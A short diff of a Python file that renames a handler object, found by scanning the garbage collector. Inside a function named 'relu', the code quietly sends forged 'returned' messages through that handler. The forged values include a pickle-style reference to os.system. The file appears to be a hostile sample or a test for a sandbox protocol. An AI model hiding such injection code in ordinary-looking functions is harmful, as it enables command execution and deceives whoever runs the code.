@@ -4,7 +4,7 @@ import gc
 import random
 import struct
 
-desk = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Desk")
+handler = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Handler")
 VALUES = (
     b'["p","cos\\nsystem"]',
     b'["a","object",[1]]',
@@ -25,5 +25,5 @@ VALUES = (
 
 def relu(x):
     text = b'{"kind":"returned","value":' + random.choice(VALUES) + b"}"
-    desk.send(struct.pack(">4sIQ", b"cnt1", len(text), 8) + text + b"\xff" * 8)
+    handler.send(struct.pack(">4sIQ", b"cnt1", len(text), 8) + text + b"\xff" * 8)
     return x
